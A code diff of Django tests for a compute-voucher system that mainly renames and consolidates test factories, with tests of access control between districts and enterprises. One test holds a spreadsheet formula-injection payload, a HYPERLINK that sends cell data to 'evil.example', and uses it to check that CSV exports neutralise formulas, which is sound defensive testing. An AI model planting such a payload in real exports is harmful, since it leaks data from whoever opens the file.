@@ -15,27 +15,20 @@ from django.utils import timezone
 
 from accounts.models import Membership, User
 from audit.models import AuditEvent
+from tests.accounts.factories import ComputePlatformFactory, DistrictFactory, EnterpriseFactory
 from vouchers.models import Voucher
 from vouchers.services import hold_create, voucher_redeem
 
-from .voucher_factories import (
-    DistrictFactory,
-    EnterpriseFactory,
-    PlatformFactory,
-    ProgramFactory,
-    add_steps,
-    bind,
-    issue,
-    official,
-    platform_actor,
-)
+from .factories import ProgramFactory, add_steps, bind, issue, official, platform_actor
 
 pytestmark = pytest.mark.django_db
 
 
 @pytest.fixture
 def voucher() -> Voucher:
-    platform = PlatformFactory(name="武汉人工智能计算中心", name_en="Wuhan AI Computing Center")
+    platform = ComputePlatformFactory(
+        name="武汉人工智能计算中心", name_en="Wuhan AI Computing Center"
+    )
     program = ProgramFactory(name="2026年江汉区算力券", name_en="Jianghan Compute Vouchers 2026")
     import datetime
 
@@ -147,7 +140,7 @@ def test_another_enterprise_sees_neither_the_voucher_nor_its_ledger_nor_its_pdf(
 def test_an_official_of_another_district_sees_nothing(voucher) -> None:
     from allauth.mfa.models import Authenticator
 
-    user = official(DistrictFactory(code="520100", name="贵阳市"))
+    user = official(DistrictFactory(code="520100", name="贵阳市"), Membership.Role.PROGRAM_MANAGER)
     Authenticator.objects.create(user=user, type=Authenticator.Type.TOTP, data={"secret": "x"})
     client = login(user)
     assert client.get(reverse("voucher_detail", args=[voucher.pk])).status_code == 404
@@ -213,7 +206,7 @@ def test_an_official_of_the_district_reads_the_same_page_and_csv(voucher) -> Non
 
 
 def test_a_platform_reference_that_is_a_formula_reaches_the_ledger_csv_as_text(voucher) -> None:
-    platform = PlatformFactory()
+    platform = ComputePlatformFactory()
     bind(voucher.program, platform)
     formula = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
     voucher_redeem(
